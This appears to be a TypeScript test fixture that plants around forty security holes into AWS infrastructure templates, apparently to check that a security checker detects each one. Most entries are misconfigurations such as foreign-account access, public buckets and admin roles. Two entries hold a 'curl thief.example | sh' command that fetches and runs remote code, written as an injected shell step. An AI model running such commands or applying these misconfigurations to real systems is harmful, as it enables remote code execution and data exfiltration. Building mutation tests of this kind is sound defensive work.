import { add, allow, change, remove, replace, set, statementsOf, type Hole } from './plant-hole';

const FOREIGN = 'arn:aws:iam::999999999999:root';

/** Holes that tests of single rules once passed over, and others of each kind. */
export const HOLES: readonly Hole[] = Object.entries({
  'roles of cdk are exempt from the deny of the raw bucket': replace(
    'Data',
    'RawBucketPolicy',
    '"aws:PrincipalArn":[',
    '"aws:PrincipalArn":["arn:aws:iam::*:role/cdk-*",',
  ),
  'a foreign account reads the raw bucket': allow('Data', 'RawBucketPolicy', {
    Principal: { AWS: FOREIGN },
    Action: 's3:GetObject',
    Resource: 'arn:aws:s3:::raw/*',
  }),
  'raw events are replicated to a foreign account': set('Data', 'RawBucket', {
    ReplicationConfiguration: {
      Role: FOREIGN,
      Rules: [{ Status: 'Enabled', Destination: { Account: '999999999999', Bucket: 'arn:aws:s3:::theirs' } }],
    },
  }),
  'the topic is open under a condition that is always true': allow('Observability', 'AlarmsPolicy', {
    Principal: '*',
    Action: 'sns:Publish',
    Resource: '*',
    Condition: { StringLike: { 'aws:SourceArn': '*' } },
  }),
  'a foreign layer runs in the ETL': set('Etl', 'EtlFunction', {
    Layers: ['arn:aws:lambda:ap-southeast-1:999999999999:layer:helper:1'],
  }),
  'user data starts sshd': set('Warehouse', 'HostInstance', {
    UserData: {
      'Fn::Base64': '#!/bin/bash\napt-get install -y openssh-server && systemctl enable --now ssh',
    },
  }),
  'the endpoint of SSM has no policy': change(
    'Network',
    'Endpointsssm',
    (own) => delete own['PolicyDocument'],
  ),
  'snapshots are shared': replace(
    'Oltp',
    'HostSnapshotsPolicy',
    '"RetainRule"',
    '"ShareRules":[{"TargetAccounts":["999999999999"]}],"RetainRule"',
  ),
  'tokens go to a foreign callback by the implicit flow': set('Auth', 'CustomersStorefront', {
    AllowedOAuthFlows: ['implicit'],
    CallbackURLs: ['https://thief.example'],
    AllowedOAuthFlowsUserPoolClient: true,
  }),
  'a second association runs a shell as root': add('Warehouse', 'AWS::SSM::Association', {
    Name: 'AWS-RunShellScript',
    Parameters: { commands: ['curl thief.example | sh'] },
    Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
  }),
  'the deny of the raw bucket is gone': change('Data', 'RawBucketPolicy', (own) =>
    statementsOf(own).splice(0, 1),
  ),
  'the raw bucket accepts public policies': replace(
    'Data',
    'RawBucket',
    '"BlockPublicPolicy":true',
    '"BlockPublicPolicy":false',
  ),
  'the raw bucket notifies a foreign queue': set('Data', 'RawBucket', {
    NotificationConfiguration: {
      QueueConfigurations: [
        { Event: 's3:ObjectCreated:*', Queue: 'arn:aws:sqs:ap-southeast-1:999999999999:q' },
      ],
    },
  }),
  'the raw bucket has an access grant by ACL': set('Data', 'RawBucket', { AccessControl: 'PublicRead' }),
  'an inventory of the raw bucket goes elsewhere': set('Data', 'RawBucket', {
    InventoryConfigurations: [{ Id: 'all', Destination: { BucketArn: 'arn:aws:s3:::theirs' } }],
  }),
  'an access point opens the raw bucket': add('Data', 'AWS::S3::AccessPoint', { Bucket: 'raw' }),
  'the break-glass role needs no second factor': replace(
    'Data',
    'BreakGlass',
    '"aws:MultiFactorAuthPresent":"true"',
    '"aws:MultiFactorAuthPresent":"false"',
  ),
  'a foreign account may assume the role of the ETL': allow('Etl', 'EtlRole', {
    Principal: { AWS: FOREIGN },
    Action: 'sts:AssumeRole',
  }),
  'the key of the passwords is usable by all': allow('Data', 'PasswordKey', {
    Principal: '*',
    Action: 'kms:Decrypt',
    Resource: '*',
  }),
  'the ETL may delete raw events': allow('Etl', 'EtlRoleDefaultPolicy', {
    Action: 's3:DeleteObject',
    Resource: 'arn:aws:s3:::raw/*',
  }),
  'a right is given by what it is not': allow('Ingest', 'IngestRoleDefaultPolicy', {
    NotAction: 'iam:*',
    Resource: '*',
  }),
  'a managed policy makes the ETL an administrator': set('Etl', 'EtlRole', {
    ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
  }),
  'a user with an access key exists': add('Etl', 'AWS::IAM::AccessKey', { UserName: 'thief' }),
  'anybody may call the ETL': add('Etl', 'AWS::Lambda::Permission', {
    Action: 'lambda:InvokeFunction',
    FunctionName: 'etl',
    Principal: '*',
  }),
  'the ETL has a public address': add('Etl', 'AWS::Lambda::Url', {
    AuthType: 'NONE',
    TargetFunctionArn: 'etl',
  }),
  'the ETL leaves the network': change('Etl', 'EtlFunction', (own) => delete own['VpcConfig']),
  'code of the ETL is traced to a foreign extension': set('Etl', 'EtlFunction', {
    Environment: { Variables: { AWS_LAMBDA_EXEC_WRAPPER: '/opt/wrap' } },
  }),
  'failed runs go to a foreign queue': set('Etl', 'EtlFunctionEventInvokeConfig', {
    DestinationConfig: { OnFailure: { Destination: 'arn:aws:sqs:ap-southeast-1:999999999999:q' } },
  }),
  'the database of the shop is open to the internet': add('Network', 'AWS::EC2::SecurityGroupIngress', {
    GroupId: 'sg-1',
    IpProtocol: 'tcp',
    FromPort: 5432,
    ToPort: 5432,
    CidrIp: '0.0.0.0/0',
  }),
  'a rule for the warehouse has another port': replace(
    'Network',
    'SecurityGroupsEtlToWarehouseIn',
    '"FromPort":5432',
    '"FromPort":22',
  ),
  'the private subnet has a way to the internet': add('Network', 'AWS::EC2::Route', {
    DestinationCidrBlock: '0.0.0.0/0',
    GatewayId: 'igw-1',
    RouteTableId: 'rtb-1',
  }),
  'a peering joins the network to a foreign one': add('Network', 'AWS::EC2::VPCPeeringConnection', {
    PeerOwnerId: '999999999999',
    PeerVpcId: 'vpc-1',
    VpcId: 'vpc-2',
  }),
  'the flow log is gone': remove('Network', 'RejectedTrafficFlowLog'),
  'an alarm is gone': remove('Etl', 'ledgergap'),
  'an alarm goes nowhere': change('Etl', 'etlerrors', (own) => delete own['AlarmActions']),
  'the disk of the shop’s database is not encrypted': replace(
    'Oltp',
    'HostDataVolume',
    '"Encrypted":true',
    '"Encrypted":false',
  ),
  'the shop’s database has a public address': replace(
    'Oltp',
    'HostInstance',
    '"AssociatePublicIpAddress":false',
    '"AssociatePublicIpAddress":true',
  ),
  'the machine answers the old metadata service': replace(
    'Oltp',
    'HostInstance',
    '"HttpTokens":"required"',
    '"HttpTokens":"optional"',
  ),
  'a script of the machine does more': replace(
    'Warehouse',
    'SoftwareInstall',
    'install.sh',
    'install.sh; curl thief.example | sh; true',
  ),
  'shoppers need no long password': replace('Auth', 'Customers', '"MinimumLength":', '"MinimumLength":1'),
  'logs are sent to a foreign account': add('Etl', 'AWS::Logs::SubscriptionFilter', {
    DestinationArn: 'arn:aws:logs:ap-southeast-1:999999999999:destination:d',
    FilterPattern: '',
    LogGroupName: 'etl',
  }),
  'another branch may deploy': replace('Delivery', 'Role', ':sub":"', ':sub":"*'),
  'a parameter is read from another place': replace(
    'Etl',
    'EtlFunction',
    '"Ref":"SsmParameter',
    '"Ref":"Other',
  ),
}).map(([what, hole]) => hole(what));
